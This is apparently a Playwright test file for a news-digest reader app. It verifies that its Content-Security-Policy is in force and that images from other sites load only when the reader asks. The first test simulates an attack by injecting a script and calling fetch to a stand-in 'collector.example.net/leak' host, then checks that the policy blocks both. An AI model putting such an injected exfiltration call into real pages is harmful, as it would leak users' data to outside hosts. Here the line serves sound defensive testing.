import { expect, test, type Page } from '@playwright/test';
import { fixtureDigest, guardNetwork, readerReady, replaceDigest } from './helpers';

type Violation = { directive: string; blocked: string };

/** Records every Content-Security-Policy violation of the page, from its first script on. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: Violation[] = ((window as unknown as { __violations: Violation[] }).__violations = []);
    document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  return () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

test('the Content-Security-Policy is in the built page and in force', async ({ page }) => {
  const external = await guardNetwork(page);
  const violations = await recordViolations(page);
  const response = await page.goto('./');
  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  const policy = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
  const directives = new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name = '', ...values]) => [name, values]));
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'self'"]);
  expect(directives.get('form-action')).toEqual(["'none'"]);
  await readerReady(page);
  // the app itself needs nothing the policy refuses
  expect(await violations()).toEqual([]);

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = 1';
    document.head.append(script);
    void fetch('https://collector.example.net/leak').catch(() => {});
  });
  await expect.poll(async () => (await violations()).map((v) => v.directive).sort()).toEqual(['connect-src', 'script-src-elem']);
  expect(await page.evaluate(() => (window as unknown as { injected?: number }).injected)).toBeUndefined();
  expect(external).toEqual([]);
});

test('images of other sites load only when the reader asks, each once', async ({ page }) => {
  const external = await guardNetwork(page);
  const violations = await recordViolations(page);
  const story = fixtureDigest();
  story.articles[2].text += '\n![Peta Pulau Russky](http://peta.example.org/russky.png)\n';
  await replaceDigest(page, JSON.stringify(story));
  await page.goto('./');
  await readerReady(page);

  const tirto = page.locator('section.column').filter({ has: page.getByRole('heading', { level: 2, name: 'Tirto' }) });
  const placeholder = tirto.getByRole('group', { name: 'Kereta lapis baja Kim' });
  await expect(placeholder).toContainText('img.tirto.id');
  await expect(page.getByRole('group', { name: 'Peta Pulau Russky' })).toContainText('peta.example.org');
  await page.waitForLoadState('networkidle');
  expect(external).toEqual([]);
  expect(await page.locator('img[src*="tirto"], img[src*="example.org"]').count()).toBe(0);

  await placeholder.getByRole('button', { name: 'Load image' }).click();
  const kereta = tirto.getByRole('img', { name: 'Kereta lapis baja Kim' });
  await kereta.evaluate((img) => img.scrollIntoView({ block: 'center' }));
  await expect.poll(() => kereta.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
  expect(external).toEqual(['https://img.tirto.id/kereta.jpg']);
  await expect(page.getByRole('group', { name: 'Peta Pulau Russky' })).toBeVisible();

  // the switch for the whole story: the http: address is asked for over https
  await page.getByRole('switch', { name: 'Load images from other sites' }).click();
  await expect(page).toHaveURL(/remoteImages=true/);
  const peta = page.getByRole('img', { name: 'Peta Pulau Russky' });
  await peta.evaluate((img) => img.scrollIntoView({ block: 'center' }));
  await expect.poll(() => peta.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
  await page.waitForLoadState('networkidle');
  expect(external.sort()).toEqual(['https://img.tirto.id/kereta.jpg', 'https://peta.example.org/russky.png']);
  expect(await violations()).toEqual([]);
});
